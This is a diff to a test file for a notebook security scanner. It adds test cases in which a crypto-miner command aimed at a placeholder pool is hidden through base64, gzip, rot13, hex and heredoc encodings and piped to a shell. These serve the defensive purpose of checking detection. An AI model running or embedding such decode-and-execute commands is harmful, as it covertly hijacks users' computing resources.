@@ -1,6 +1,7 @@
 """Hidden code is read like plain code, within fixed bounds; the finding says it was hidden."""
 import base64
 import codecs
+import gzip
 import time
 import zlib
 
@@ -25,6 +26,12 @@ def b64(s: str) -> str:
     (f"exec(__import__('base64').b64decode('{b64('import os; os.system(%r)' % MINER)}'))", "base64"),
     (f"import base64\nexec(compile(base64.b64decode('{b64('import os; os.system(%r)' % MINER)}'), 'x', 'exec'))", "base64"),
     (f"!echo {b64(MINER)} | base64 -d | bash", "base64 | sh"),
+    (f"!printf %s '{codecs.encode(MINER, 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "tr | sh"),
+    (f"!echo {base64.b64encode(gzip.compress(MINER.encode())).decode()} | base64 -d | gunzip | bash",
+     "base64 | gunzip | sh"),
+    (f"!echo {MINER.encode().hex()} | xxd -r -p | sh", "hex | sh"),
+    (f"%%bash\nbase64 -d <<EOF | bash\n{b64(MINER)}\nEOF", "base64 | sh"),
+    (f"!echo {b64(MINER)} > /tmp/p; base64 -d /tmp/p | sh", "base64 literal"),
     ("import os\nos.system('{}{}'.format('./xmrig -o strat', 'um+tcp://pool.example.net:3333 -u w'))", "format"),
     ("import os\nos.system('{a}um+{b}'.format(a='./xmrig -o strat', b='tcp://pool.example.net:3333 -u w'))", "format"),
     ("import os\nos.system('./xmrig -o %s%s -u w' % ('strat', 'um+tcp://pool.example.net:3333'))", "format"),
@@ -88,3 +95,16 @@ def test_format_templates_with_widths_or_fields_are_not_folded(engine, code):
     t = time.process_time()
     r = engine.check_cell(code)
     assert r.error is None and time.process_time() - t < 1.0
+
+
+def test_here_string_does_not_open_a_heredoc(engine):
+    # `<<<` feeds one word; the lines after it are commands, not a heredoc body to its end
+    from nbwarden.engine.extract import shell as sh
+    pipelines, heredocs = sh.split_commands("cat <<< hello\n./w -o stratum+tcp://pool.example.net:3333\n")
+    assert heredocs == [] and [p[0][0][0] for p, _ in pipelines] == ["cat", "./w"]
+
+
+def test_decoding_a_pipeline_that_does_not_run_it_is_text(engine):
+    # decoded and read as text (a string with a pool URL), but no command is run from it
+    r = engine.check_cell(f"!echo {b64('hello world, nothing to see')} | base64 -d > notes.txt")
+    assert r.findings == []
